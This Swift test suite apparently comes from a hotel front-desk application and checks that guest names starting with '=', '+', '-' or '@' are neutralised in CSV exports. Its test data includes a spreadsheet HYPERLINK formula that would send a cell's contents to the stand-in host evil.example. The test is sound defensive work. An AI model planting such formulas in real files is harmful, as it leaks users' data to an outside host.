import Foundation
import FrontDeskDomain
import FrontDeskScreens
import FrontDeskTerminal
import FrontDeskTestSupport
import Testing

/// A guest name that a spreadsheet would run as a formula reaches CSV files as text.
@Suite struct CSVInjectionTests {
    static let hostileName = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"

    @Test func aFormulaGuestNameIsNeutralisedInTheArrivalsCSV() throws {
        let cli = try CLIHarness()
        try cli.smallHotel()
        for (room, name) in [("101", Self.hostileName), ("102", "+Plus"), ("103", "-Minus"), ("104", "@At"), ("105", "Plain Name")] {
            try cli.expectSuccess(cli.run("book", "--room", room, "--check-in", "2026-11-26", "--check-out", "2026-11-27",
                                          "--guests", "1", "--guest-name=\(name)", "--email", "guest@example.com", "--wait"))
        }

        let csv = try cli.run("report", "arrivals", "--csv")
        try cli.expectSuccess(csv)
        let rows = csv.stdout.split(separator: "\n").map(String.init)

        // The name is one quoted cell (it holds commas and quotes) whose text starts with ': never '='.
        let hostile = try #require(rows.first { $0.contains("HYPERLINK") })
        #expect(hostile.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\","))
        #expect(!rows.contains { $0.contains(",=") || $0.contains(",\"=") })
        #expect(rows.contains { $0.contains(",'+Plus,") } && rows.contains { $0.contains(",'-Minus,") } && rows.contains { $0.contains(",'@At,") })
        #expect(rows.contains { $0.contains(",Plain Name,") })
        // Numbers stay numbers: the guest count and the total are not prefixed.
        #expect(hostile.wholeMatch(of: /.*,guest@example\.com,,1,\d+\.\d\d/) != nil, "\(hostile)")
    }

    @Test func numericCellsKeepTheirSignAndTextCellsStartingWithControlsAreNeutralised() {
        #expect(CSV.line([.text("-5.00"), .number("-5.00"), .text("\tTab"), .text("\rReturn"), .text("ok")])
            == "'-5.00,-5.00,'\tTab,\"'\rReturn\",ok")
    }

    @Test func theDashboardExportStillEqualsOccupancyCSV() throws {
        let desk = try StoreFixture()
        let held = try desk.store.reserve(desk.form(room: "101", from: "2026-11-26", to: "2026-11-28", name: Self.hostileName), by: "anna")
        _ = try desk.store.confirm(held.confirmationCode, by: "anna")
        var model = DeskModel(
            info: DeskInfo(hotelName: "Hotel Test", currency: "EUR", businessDate: StoreFixture.today, user: "anna"),
            services: DeskTerminalApp.services(store: desk.store, user: "anna", cardPayments: false),
            roomServices: DeskTerminalApp.roomServices(store: desk.store, user: "anna"),
            managerServices: DeskTerminalApp.managerServices(store: desk.store, exportDirectory: desk.folder.path))
        _ = model.handle(.function(7))
        _ = model.handle(.alt("e")) // export (letters are text: commands use Alt)
        let written = try String(contentsOf: desk.folder.appendingPathComponent("occupancy-2026-11-26-to-2026-12-25.csv"), encoding: .utf8)

        var cli = try CLIHarness()
        cli.environment["FRONTDESK_DB"] = desk.store.path
        let printed = try cli.run("occupancy", "--from", "2026-11-26", "--to", "2026-12-25", "--csv")
        try cli.expectSuccess(printed)

        #expect(written == printed.stdout)
        #expect(written.contains("\n2026-11-26,7,1,"))
    }
}
